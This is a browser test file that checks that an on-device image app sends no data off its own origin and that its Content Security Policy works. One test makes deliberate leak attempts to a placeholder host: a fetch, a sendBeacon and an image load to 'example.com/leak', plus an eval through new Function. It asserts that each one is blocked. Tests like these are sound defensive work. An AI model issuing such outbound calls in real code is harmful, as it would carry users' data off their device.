/** Nothing leaves the device: a whole session asks its own origin only, and the policy blocks more. */
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type App, readOne, startApp } from './app.ts';

let app: App;
beforeAll(async () => {
  app = await startApp();
});
afterAll(() => app.close());

test('a full session requests nothing outside its own origin', async () => {
  const { context, page } = await app.visit();
  const asked = new Set<string>();
  const blocked: string[] = [];
  context.on('request', (request) => {
    const url = new URL(request.url());
    if (url.protocol.startsWith('http') || url.protocol.startsWith('ws')) asked.add(url.origin);
  });
  page.on('console', (m) => {
    if (/Content Security Policy|violates/i.test(m.text())) blocked.push(m.text());
  });
  await readOne(app, page, 'emily-1.jpg');
  await readOne(app, page, 'group-1.jpg');
  for (const path of ['/', '/models', '/settings', '/privacy', '/aura', '/more', '/capture']) {
    await page.goto(app.url + path);
    await page.getByRole('heading').first().waitFor();
  }
  // MediaPipe sends its usage figures once a minute; give the clock that minute.
  await readOne(app, page, 'tara-1.jpg');
  await page.waitForTimeout(62_000);
  expect([...asked]).toEqual([app.url]);
  expect(blocked).toEqual([]);
  const refused = await page.evaluate(
    () =>
      new Promise<string[]>((resolve) => {
        const open = indexedDB.open('aura');
        open.onsuccess = () => {
          const all = open.result.transaction('diagnostics').objectStore('diagnostics').getAll();
          all.onsuccess = () => {
            open.result.close();
            const entries = all.result.map(
              (r: { body: { type?: string; error?: string } }) => r.body,
            );
            resolve(entries.filter((e) => e.type === 'blocked-request').map((e) => e.error ?? ''));
          };
        };
      }),
  );
  for (const line of refused) expect(line).toMatch(/^to https:\/\/[\w.-]+googleapis\.com$/);
  await context.close();
});

test('the policy blocks what tries to get out, from the page and from a worker', async () => {
  const { context, page } = await app.visit();
  await page.goto(app.url);
  const outcome = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      violations.push(e.effectiveDirective),
    );
    const fetched = await fetch('https://example.com/leak', { mode: 'no-cors' }).then(
      () => 'sent',
      () => 'blocked',
    );
    const beacon = navigator.sendBeacon('https://example.com/leak', 'x');
    const image = await new Promise<string>((resolve) => {
      const img = new Image();
      img.onload = () => resolve('loaded');
      img.onerror = () => resolve('blocked');
      img.src = 'https://example.com/leak.png';
    });
    let evaluated = 'blocked';
    try {
      evaluated = String(new Function('return "ran"')());
    } catch {
      // Blocked, as it should be.
    }
    await new Promise((resolve) => setTimeout(resolve, 200));
    return { fetched, beacon, image, evaluated, violations };
  });
  expect(outcome.fetched).toBe('blocked');
  expect(outcome.image).toBe('blocked');
  expect(outcome.evaluated).toBe('blocked');
  expect(outcome.violations).toContain('connect-src');
  expect(outcome.violations).toContain('img-src');
  await context.close();
});

test('the page is isolated, so that WASM has threads', async () => {
  const { context, page } = await app.visit();
  await page.goto(app.url);
  expect(await page.evaluate(() => window.crossOriginIsolated)).toBe(true);
  await context.close();
});
